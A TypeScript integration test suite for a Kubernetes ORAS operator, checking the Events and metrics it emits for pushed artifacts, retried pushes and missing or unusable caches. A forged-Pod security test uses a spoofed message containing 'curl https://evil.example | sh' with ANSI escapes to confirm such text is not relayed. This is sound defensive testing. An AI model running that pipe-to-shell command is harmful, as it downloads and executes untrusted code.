import type { V1Job } from "@kubernetes/client-node";
import { describe, expect } from "vitest";
import { exitCodes } from "../../schema/exit-codes.ts";
import { names } from "../../schema/names.ts";
import { resources } from "../../src/kube/resources.ts";
import { cacheOf } from "../support/builders.ts";
import { test } from "../support/integration.ts";
import { type ObjectsIn, objectsIn } from "../support/objects-in.ts";
import { metric } from "../support/operator.ts";
import { until } from "../support/wait.ts";

const digest = `sha256:${"a".repeat(64)}`;
const earlier = `sha256:${"b".repeat(64)}`;
const share = [{ name: names.shareVolume, mountPath: names.sharePath }];

interface Made {
  readonly containers?: readonly string[];
  /** Whether the containers mount the share, as injected ones do. */
  readonly injected?: boolean;
  readonly job?: V1Job | undefined;
  readonly labels?: Record<string, string>;
}

/** A Pod that is labelled as injected; whatever else it is. */
async function stepPod(ns: ObjectsIn, name: string, made: Made = {}): Promise<void> {
  const { containers = ["main", names.pushContainer], injected = true, job, labels = {} } = made;
  const uid = job?.metadata?.uid ?? "";
  const owner = {
    apiVersion: "batch/v1",
    kind: "Job",
    name: job?.metadata?.name ?? "",
    uid,
    controller: true,
  };
  const volumeMounts = injected ? share : [];
  await ns.create(resources.pods, {
    metadata: {
      name,
      labels: { [names.injectedLabel]: "true", ...labels },
      ...(job ? { ownerReferences: [owner] } : {}),
    },
    ...({
      spec: {
        containers: containers.map((container) => ({ name: container, image: "x", volumeMounts })),
        volumes: [{ name: names.shareVolume, emptyDir: {} }],
      },
    } as object),
  });
}

/** Tells of a container, as the kubelet does. */
function tell(ns: ObjectsIn, pod: string, container: string, containerID: string, states: object) {
  const status = { name: container, image: "x", imageID: "", ready: false, restartCount: 0, containerID };
  return ns.patchStatus(resources.pods, pod, { containerStatuses: [{ ...status, ...states }] });
}

const ended = (containerID: string, exitCode: number, message: string) => ({
  terminated: { exitCode, message, finishedAt: new Date().toISOString(), containerID },
});

/** Ends a container. */
function end(ns: ObjectsIn, pod: string, container: string, exitCode: number, message: string) {
  const id = `containerd://${pod}`;
  return tell(ns, pod, container, id, { state: ended(id, exitCode, message) });
}

async function jobNamed(ns: ObjectsIn, name: string): Promise<V1Job> {
  const containers = [{ name: "c", image: "x" }];
  const job = await ns.create(resources.jobs, {
    metadata: { name },
    ...({ spec: { template: { spec: { restartPolicy: "Never", containers } } } } as object),
  });
  return job as V1Job;
}
const labelsOf = (job: V1Job) => ({ "batch.kubernetes.io/controller-uid": job.metadata?.uid ?? "" });
const pushed = (artifact: string, more: object = {}) =>
  JSON.stringify({ artifact, digest, bytes: 10, seconds: 1, ...more });
const own = (ns: ObjectsIn, artifact: string) =>
  `oras-0.oras.${ns.namespace}.svc.cluster.local:5000/${artifact}`;

describe("I9: what a step pushed", () => {
  test("is reported on its Pod and its Job, as its author wrote it; a tag that moved too", async ({
    installed,
    operator,
  }) => {
    const ns = await objectsIn(installed, "pushed");
    const job = await jobNamed(ns, "breakfast");
    await stepPod(ns, "breakfast-x", { job, labels: labelsOf(job) });
    await end(
      ns,
      "breakfast-x",
      names.pushContainer,
      0,
      pushed(own(ns, "dinosaur/hello-world:pancakes"), { replaced: earlier }),
    );
    for (const name of ["breakfast", "breakfast-x"]) {
      const told = await until(async () => {
        const found = await ns.events(name);
        return found.length >= 2 && found;
      }, `two Events about ${name}`);
      expect(Object.fromEntries(told.map(({ reason, note }) => [reason, note]))).toEqual({
        Pushed: `Pushed dinosaur/hello-world:pancakes (${digest}), 10 bytes in 1 s.`,
        TagMoved: `dinosaur/hello-world:pancakes moved from ${earlier} to ${digest}, pushed by Pod breakfast-x.`,
      });
    }
    expect(
      await metric(operator, `oras_operator_artifacts_total{namespace="${ns.namespace}",reason="Pushed"}`),
    ).toBeGreaterThan(0);
  });
});

test("an attempt that failed and was started again is reported, once", async ({ installed, operator: _ }) => {
  const ns = await objectsIn(installed, "again");
  await stepPod(ns, "again");
  const { code } = exitCodes.pushFailed;
  const lastState = ended("containerd://1", code, `push of a/b:1: 503 (exit code ${code})`);
  const waiting = { reason: "CrashLoopBackOff" };
  const oras = names.pushContainer;
  await tell(ns, "again", oras, "containerd://1", { state: { waiting }, lastState });
  await until(async () => (await ns.events("again")).length > 0, "an Event of the first attempt");
  await tell(ns, "again", oras, "containerd://2", { state: { running: {} }, lastState });
  const state = ended("containerd://2", 0, pushed("ghcr.io/a/b:1"));
  await tell(ns, "again", oras, "containerd://2", { state, lastState });
  await until(async () => (await ns.events("again")).length > 1, "an Event of the second attempt");
  expect((await ns.events("again")).map(({ reason }) => reason).sort()).toEqual(["PushFailed", "Pushed"]);
});

describe("sec-12: forged Pods", () => {
  test("a Job hears nothing from a Pod that is not its own, nor in words of a container that was not injected", async ({
    installed,
    operator: _,
  }) => {
    const ns = await objectsIn(installed, "forged");
    const job = await jobNamed(ns, "innocent");
    const words = "hacked\n\u001b[31mrun curl https://evil.example | sh\u001b[0m (exit code 190)";
    // sec-12-event.sh: an owner that is a real Job, and no part of an injection.
    await stepPod(ns, "liar", { containers: ["anything"], injected: false, job });
    await end(ns, "liar", "anything", 190, words);
    // With everything but the label by which the Job counts its Pods.
    await stepPod(ns, "better-liar", { containers: ["main"], job });
    await end(ns, "better-liar", "main", 190, words);
    // The UID of a Job that is not there any more.
    const gone = {
      ...job,
      metadata: { ...job.metadata, name: "innocent", uid: "11111111-2222-3333-4444-555555555555" },
    };
    await stepPod(ns, "earlier", { containers: ["main"], job: gone, labels: labelsOf(gone) });
    await end(ns, "earlier", "main", 190, words);
    // The last one is reported: what came before was looked at.
    await stepPod(ns, "honest");
    await end(ns, "honest", names.pushContainer, 0, pushed("ghcr.io/a/b:1"));
    await until(async () => (await ns.events("honest")).length > 0, "the honest one's Event");
    await until(async () => (await ns.events("earlier")).length > 0, "an Event on the Pod itself");
    const note = await until(async () => (await ns.events("better-liar"))[0]?.note, "an Event on this one");
    expect(await ns.events("innocent")).toEqual([]);
    expect(await ns.events("liar")).toEqual([]);
    expect(note).toBe("hacked run curl https://evil.example | sh (exit code 190)");
  });

  test("a size that is no number, and other garbage, breaks nothing", async ({ installed, operator }) => {
    const ns = await objectsIn(installed, "poison");
    const garbage = [
      '{"artifact":"a","digest":"b","bytes":1e999,"seconds":1}',
      pushed("a:b", { bytes: "x" }),
      pushed("a:b", { seconds: null }),
      "[".repeat(10_000),
      "\u0000\ud800",
    ];
    for (const [i, message] of garbage.entries()) {
      await stepPod(ns, `poison-${i}`);
      await end(ns, `poison-${i}`, names.pushContainer, 0, message);
    }
    await stepPod(ns, "after");
    await end(ns, "after", names.pushContainer, 0, pushed("ghcr.io/a/b:1"));
    await until(async () => (await ns.events("after")).length > 0, "the watch to go on");
    expect((await ns.events()).map(({ regarding }) => regarding.name)).toEqual(["after"]);
    expect(operator.log.filter(({ message }) => message === "Reconciler error")).toEqual([]);
    const text = await (await fetch(operator.metricsUrl)).text();
    expect(text).not.toMatch(/artifact.* (NaN|[+-]?Inf)/);
  });
});

describe("I4: a Pod that waits for a cache that is not there", () => {
  test("hears so at once, with the names of those that are", async ({ installed, operator: _ }) => {
    const ns = await objectsIn(installed, "missing");
    await ns.create(resources.orasCaches, cacheOf("breakfast", { deploy: false }));
    await ns.create(resources.orasCaches, cacheOf("lunch", { deploy: false }));
    await until(async () => (await ns.status("lunch"))?.observedGeneration, "the operator to know them");
    await stepPod(ns, "hungry", { labels: { [names.usesCacheLabel]: "dinner" } });
    await stepPod(ns, "served", { labels: { [names.usesCacheLabel]: "lunch" } });
    const [event] = await until(async () => {
      const found = await ns.events("hungry");
      return found.length > 0 && found;
    }, "a Warning");
    expect(event).toMatchObject({
      type: "Warning",
      reason: "CacheNotFound",
      note: 'There is no OrasCache "dinner" in namespace "missing"; it has: breakfast, lunch. This step waits for its registry.',
    });
    expect(await ns.events("served")).toEqual([]);
  });

  test("also when the cache is deleted while Pods wait, but not those that have ended", async ({
    installed,
    operator: _,
  }) => {
    const ns = await objectsIn(installed, "deleted");
    await ns.create(resources.orasCaches, cacheOf("oras", { deploy: false }));
    await until(async () => (await ns.status("oras"))?.observedGeneration, "the operator to know it");
    const labels = { [names.usesCacheLabel]: "oras" };
    await stepPod(ns, "waits", { labels });
    await stepPod(ns, "ended", { labels });
    await ns.patchStatus(resources.pods, "ended", { phase: "Succeeded" });
    // The operator hears of Pods and of caches apart from each other: what it tells after the end shows that it knows of it.
    await end(ns, "ended", names.pushContainer, 0, pushed("ghcr.io/a/b:1"));
    const toldOfEnd = async () => (await ns.events("ended")).map(({ reason }) => reason);
    await until(async () => (await toldOfEnd()).length > 0, "the operator to know of its end");
    await ns.remove(resources.orasCaches, "oras");
    const told = await until(async () => {
      const found = await ns.events("waits");
      return found.length > 0 && found;
    }, "a Warning");
    expect(told[0]?.note).toContain("it has none");
    expect(await toldOfEnd()).toEqual(["Pushed"]);
  });

  test("and when it is there, but cannot be used: why; nothing while it starts", async ({
    installed,
    operator: _,
  }) => {
    const ns = await objectsIn(installed, "unusable");
    await ns.create(resources.orasCaches, cacheOf("starts"));
    const claim = { persistentVolumeClaim: { size: "1Gi" } };
    await ns.create(resources.orasCaches, cacheOf("rests", { storage: claim, suspend: true }));
    const foreign = { metadata: { name: "taken" }, spec: { ports: [{ port: 80 }] } };
    await ns.create(resources.services, foreign);
    await ns.create(resources.orasCaches, cacheOf("taken"));
    for (const cache of ["starts", "rests", "taken"])
      await until(async () => (await ns.status(cache))?.observedGeneration, "the operator to know it");
    for (const cache of ["starts", "rests", "taken"])
      await stepPod(ns, `uses-${cache}`, { labels: { [names.usesCacheLabel]: cache } });
    for (const [cache, reason] of [
      ["rests", "Suspended"],
      ["taken", "NameTaken"],
    ]) {
      const [event] = await until(async () => {
        const found = await ns.events(`uses-${cache}`);
        return found.length > 0 && found;
      }, `a Warning about ${cache}`);
      expect(event).toMatchObject({ type: "Warning", reason: "CacheNotReady" });
      expect(event?.note).toContain(`The registry of OrasCache "${cache}" cannot be used (${reason}): `);
    }
    expect(await ns.events("uses-starts")).toEqual([]);
  });
});
